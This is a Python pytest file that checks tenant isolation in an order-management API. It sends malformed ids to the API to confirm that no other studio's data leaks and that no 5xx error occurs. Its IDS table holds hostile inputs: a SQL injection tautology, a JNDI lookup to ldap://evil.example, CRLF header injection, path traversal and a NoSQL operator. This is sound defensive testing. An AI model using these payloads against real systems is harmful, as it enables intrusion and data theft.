"""Ids with separators or wildcards read no other studio's data and cause no 5xx."""

from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest

from shared.edge.auth import Action
from tests.e2e.test_who_may import NOWHERE, ROUTES
from tests.e2e.world import DIRECT_STUDIO, PLATFORM_STUDIO, DeployedStack

pytestmark = pytest.mark.stack

# {mine} and {theirs} are an order of this studio and one of another.
IDS = {
    "separator": "{theirs}#ORDER",
    "separator before": "#ORDER#{theirs}",
    "key": "ORDER#{theirs}",
    "whole key": "STUDIO#st_fjord#ORDER#{theirs}",
    "sort key": "{mine}#REFUND#",
    "wildcard": "*",
    "wildcard after": "ord_*",
    "percent": "%",
    "escaped separator": "{theirs}%23ORDER",
    "escaped slash": "{mine}%2F..%2F{theirs}",
    "slash": "{mine}/../{theirs}",
    "dots": "..",
    "backslash": "..\\{theirs}",
    "null": "{mine}\x00{theirs}",
    "line break": "{mine}\r\nX-Studio: st_fjord",
    "escape": "{mine}\x1b[2J",
    "quote": "{mine}' OR '1'='1",
    "JSON": '{{"S":"{theirs}"}}',
    "operator": "$ne",
    "template": "${{jndi:ldap://evil.example}}",
    "full width": "\uff5b{theirs}\uff5d\uff03",
    "right to left": "{mine}\u202e",
    "combining": "{mine}\u0301",
    "no character": "\ufffe\uffff",
    "emoji": "🎓",
    "space": " ",
    "largest": "\U0010ffff" * 64,
    "overlong": "x" * 65,
    "very overlong": "x" * 5_000,
}

# A refusal names a malformed id, or something that does not exist.
CODES = {
    *((400, "bad_request"), (401, "unauthorized"), (404, "not_found"), (422, "invalid_input")),
    *((404, f"{name}_not_found") for name in ("order", "refund", "message", "export", "payout")),
    *((404, f"{name}_not_found") for name in ("parked_message", "dispute", "adjustment", "user")),
}


@pytest.fixture(scope="module")
def orders(world: DeployedStack) -> dict[str, str]:
    """One order of each studio."""
    return {"mine": world.sell(PLATFORM_STUDIO), "theirs": world.sell(DIRECT_STUDIO)}


def escaped(text: str) -> str:
    """Escape a text for a URL. Dots too, or the client would resolve them."""
    return quote(text, safe="").replace(".", "%2E")


def parameters() -> Iterator[tuple[str, str]]:
    for name, route in ROUTES.items():
        for parameter in NOWHERE:
            if f"{{{parameter}}}" in route.path:
                yield name, parameter


@pytest.mark.parametrize(("name", "parameter"), list(parameters()))
def test_an_id_in_a_path_finds_only_the_object_with_that_id(
    world: DeployedStack, orders: dict[str, str], name: str, parameter: str
) -> None:
    route = ROUTES[name]
    for kind, pattern in IDS.items():
        hostile = escaped(pattern.format(**orders))
        known = NOWHERE | {"order_id": orders["mine"]} | {parameter: hostile}
        body: Any = route.body
        headers = {"Idempotency-Key": f"hostile-{len(kind)}"} if route.method == "POST" else {}
        path, role = route.path.format(**known), "owner"
        if route.action is Action.DECIDE_ADJUSTMENT:
            path, role = f"{path}?studio_id={PLATFORM_STUDIO}", "pps_admin"
        answer = world.call(route.method, path, body, role=role, headers=headers)
        found = (answer.status_code, answer.json().get("code"))
        assert found in CODES, f"{kind}: {found} {answer.text[:300]}"
        assert answer.headers["content-type"] == "application/problem+json"
        assert orders["theirs"] not in answer.text
    panel = world.call("GET", f"/orders/{orders['mine']}").json()
    assert (panel["refunds"], panel["messages"]) == ([], [])


QUERIES = {
    "/orders": ("query", "status", "limit", "cursor"),
    "/print-station/queue": ("status", "limit", "cursor"),
    "/reports/refunds": ("from", "to", "state", "format", "limit", "cursor"),
    "/reports/refunds/patterns": ("from", "to", "by"),
    "/payouts": ("limit", "cursor"),
}


@pytest.mark.parametrize(
    ("path", "parameter"), [(path, each) for path, names in QUERIES.items() for each in names]
)
def test_a_query_parameter_shows_nothing_of_another_studio(
    world: DeployedStack, orders: dict[str, str], path: str, parameter: str
) -> None:
    for kind, pattern in IDS.items():
        hostile = escaped(pattern.format(**orders))
        answer = world.call("GET", f"{path}?{parameter}={hostile}")
        assert answer.status_code in {200, 400, 413, 414, 422}, f"{kind}: {answer.text[:300]}"
        assert f'"{orders["theirs"]}"' not in answer.text
        # Only the search accepts any text, and finds orders with those words.
        if answer.status_code == 200:
            assert parameter == "query", kind


@pytest.mark.parametrize("kind", IDS)
def test_a_pps_admin_reads_no_studio_by_a_pattern(
    world: DeployedStack, orders: dict[str, str], kind: str
) -> None:
    admin = world.stack.tokens[PLATFORM_STUDIO]["pps_admin"]
    for named in (IDS[kind].format(**orders), f"{PLATFORM_STUDIO}#none", f"{PLATFORM_STUDIO}#OPEN"):
        answer = world.call("GET", f"/orders?studio_id={quote(named, safe='')}", token=admin)
        assert answer.status_code in {200, 403, 422}, answer.text[:300]
        assert answer.json().get("items", []) == []
